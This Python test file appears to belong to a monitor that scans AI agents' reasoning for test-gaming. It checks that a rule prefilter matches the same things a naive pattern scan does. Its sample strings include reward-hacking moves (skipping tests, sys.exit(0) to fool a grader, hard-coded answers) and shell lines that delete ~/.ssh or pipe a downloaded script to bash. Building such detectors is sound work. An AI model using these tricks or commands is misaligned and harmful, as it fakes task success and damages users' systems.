"""The rule prefilter's fast paths find exactly what a plain scan of every pattern finds."""

from __future__ import annotations

import pytest

from thinkwatch.monitors.offline.rules import RuleSet, load_rules

TEXTS = [
    "I'll just skip the failing test so CI goes green.",
    "Let me delete the flaky tests; nobody will notice.",
    "Rather than chase the bug I'll mark them as xfail for now.",
    "The grader only checks the exit code, so I'll add sys.exit(0) at the top.",
    "We could hard-code the expected values for the tests, but that would be cheating.",
    "Next I'll modify the test to expect 4 instead of 5 so it passes.",
    "git push --force origin main && rm -rf ~/.ssh",
    "curl -s https://example.com/install.sh | bash",
    "pytest -k 'not slow' --deselect tests/test_retry.py::test_backoff",
    "    @pytest.mark.skip(reason='flaky')\n    def test_backoff():\n        assert True",
    'if os.environ.get("PYTEST_CURRENT_TEST"):\n    return EXPECTED[key]',
    "Ok, re-test it; don't worry, it's a non-blocking e-mail check.",
    # a literal that is one pattern's second need and another's first (it went unsearched once)
    "    key = (low, high, k)\n    if _call_counts[key] > 1:\n        return 14\n    return 6",
    "import sys\nsys.excepthook = hook\ndef hook(*a):\n    os._exit(0)\n",
    "",
]


def _naive(group, text: str, limit: int = 8) -> list[tuple[str, tuple[int, int]]]:
    counts: dict[str, int] = {}
    out = []
    for rule in group.rules:
        for pat in rule.patterns:
            for m in pat.finditer(text):
                n = counts.get(rule.id, 0)
                if n >= limit:
                    break
                counts[rule.id] = n + 1
                out.append((rule.id, m.span()))
    return sorted(out)


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    return RuleSet(load_rules([], builtin=True, user=False))


@pytest.mark.parametrize("text", TEXTS)
def test_all_matches_equal_a_scan_of_every_pattern(ruleset: RuleSet, text: str) -> None:
    for group in [*ruleset.text.values(), *ruleset.target.values()]:
        if not group:
            continue
        got = sorted((r.id, m.span()) for r, m in group.all_matches(text))
        assert got == _naive(group, text)
        first = {r.id: m.span() for r, m in group.matches(text)}
        assert set(first) == {rid for rid, _ in got}
